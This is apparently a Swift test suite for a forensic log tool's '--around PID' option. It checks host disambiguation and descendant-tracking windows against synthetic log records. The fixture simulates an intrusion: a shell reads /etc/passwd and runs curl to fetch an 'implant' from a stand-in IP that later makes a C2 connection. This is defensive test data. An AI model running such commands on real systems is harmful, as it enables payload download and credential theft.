import Foundation
import Testing

/// `--around PID` of `report` and `timeline`: a PID two hosts share, `--host` to choose, and the
/// window that follows the descendants' whole life.
@Suite(.serialized) struct AroundCommandTests {
    /// node-a: sshd(100) → bash(15656) reads /etc/passwd, starts curl(15700), which phones home 20
    /// minutes later; an unrelated pid 999 on node-a; node-b: cron(200) → python3 with the same HostPID.
    static let log: String = {
        func record(_ seconds: Int, host: String, pid: Int, ppid: Int, name: String, parent: String,
                    operation: String, resource: String, data: String) -> String {
            let time = String(format: "2024-05-31T10:%02d:%02d.000000Z", seconds / 60, seconds % 60)
            return #"{"Timestamp":\#(1_717_149_600 + seconds),"UpdatedTime":"\#(time)","HostName":"\#(host)","#
                + #""HostPPID":\#(ppid),"HostPID":\#(pid),"PPID":\#(ppid),"PID":\#(pid),"UID":0,"#
                + #""ParentProcessName":"\#(parent)","ProcessName":"\#(name)","Type":"HostLog","Source":"\#(parent)","#
                + #""Operation":"\#(operation)","Resource":"\#(resource)","Data":"\#(data)","Result":"Passed"}"#
        }
        let exec = "syscall=SYS_EXECVE", open = "syscall=SYS_OPENAT fd=-100 flags=O_RDONLY"
        return [
            record(0, host: "node-a", pid: 15656, ppid: 100, name: "/usr/bin/bash", parent: "/usr/sbin/sshd",
                   operation: "Process", resource: "/usr/bin/bash -i", data: exec),
            record(1, host: "node-a", pid: 15656, ppid: 100, name: "/usr/bin/bash", parent: "/usr/sbin/sshd",
                   operation: "File", resource: "/etc/passwd", data: open),
            record(2, host: "node-a", pid: 999, ppid: 1, name: "/usr/sbin/cron", parent: "/sbin/init",
                   operation: "File", resource: "/etc/crontab", data: open),
            record(5, host: "node-b", pid: 15656, ppid: 200, name: "/usr/bin/python3", parent: "/usr/sbin/cron",
                   operation: "Process", resource: "/usr/bin/python3 /opt/backup.py", data: exec),
            record(10, host: "node-a", pid: 15700, ppid: 15656, name: "/usr/bin/curl", parent: "/usr/bin/bash",
                   operation: "Process", resource: "/usr/bin/curl -s http://203.0.113.7/implant", data: exec),
            record(1200, host: "node-a", pid: 15700, ppid: 15656, name: "/usr/bin/curl", parent: "/usr/bin/bash",
                   operation: "Network", resource: "remoteip=203.0.113.7 port=443 protocol=TCP", data: "syscall=SYS_CONNECT fd=3"),
        ].joined(separator: "\n") + "\n"
    }()

    /// The scratch directory lives as long as the suite's store.
    static let scratch = Scratch()
    static let store: String = {
        let store = scratch.path + "/store"
        _ = try? CLI.run(["import", "--store", store, scratch.write("around.ndjson", log)])
        return store
    }()

    @Test func aPIDOfTwoHostsIsRefusedWithTheCandidates() throws {
        for command in ["report", "timeline"] {
            let run = try CLI.run([command, "--store", Self.store, "--around", "15656"])
            #expect(run.status == 2, "\(command)")
            #expect(run.stdout.isEmpty)
            let errors = lines(run.stderr)
            #expect(errors.first == "rearview: --around 15656: 2 hosts had HostPID 15656; pick one with --host:", "\(errors)")
            #expect(errors.dropFirst().map { $0.split(separator: " ", omittingEmptySubsequences: true).first.map(String.init) }
                    == ["node-a", "node-b"])
            #expect(errors.contains { $0.contains("2024-05-31T10:00:00.000000Z") && $0.contains("/usr/bin/bash -i") })
            #expect(errors.contains { $0.contains("/usr/bin/python3 /opt/backup.py") })
        }
        let neither = try CLI.run(["report", "--store", Self.store, "--around", "15656", "--host", "node-z"])
        #expect(neither.status == 2)
        #expect(lines(neither.stderr) == ["rearview: --around 15656: no process with HostPID 15656 on a host matching --host 'node-z' in the store(s)"])
    }

    @Test func hostPicksOneAndTheWindowFollowsTheDescendants() throws {
        let run = try CLI.run(["report", "--store", Self.store, "--around", "15656", "--host", "node-a", "--format", "json"],
                              environment: ["SOURCE_DATE_EPOCH": "1700000000"])
        #expect(run.status == 0, "\(run.stderr)")
        let object = try #require(try JSONSerialization.jsonObject(with: run.stdoutBytes) as? [String: Any])
        let events = try #require(object["Events"] as? [[String: Any]])
        // Independently: node-a's events of bash and its descendant curl, the C2 connection 20 min later included.
        let expected = lines(Self.log).compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
            .filter { $0["HostName"] as? String == "node-a" && [15656, 15700].contains($0["HostPID"] as? Int) }
            .map { $0["Resource"] as? String ?? "" }
        #expect(events.map { $0["Resource"] as? String ?? "" } == expected)
        #expect(events.contains { $0["Operation"] as? String == "Network" })
        #expect((object["Title"] as? String)?.contains("bash (HostPID 15656 on node-a)") == true)

        let timeline = try CLI.run(["timeline", "--store", Self.store, "--around", "15656", "--host", "node-b"])
        #expect(timeline.status == 0, "\(timeline.stderr)")
        #expect(lines(timeline.stdout).count == 1)
        #expect(timeline.stdout.contains("/opt/backup.py") && !timeline.stdout.contains("node-a"))
        let short = try CLI.run(["timeline", "--store", Self.store, "--around", "15656", "--host", "node-a",
                                 "--window", "1s"])
        #expect(lines(short.stdout).count == 4, "\(short.stdout)")
        let limited = try CLI.run(["timeline", "--store", Self.store, "--around", "15656", "--host", "^node-a$", "--limit", "2"])
        #expect(lines(limited.stdout).count == 2)
        #expect(!limited.stdout.contains("crontab"))
    }
}
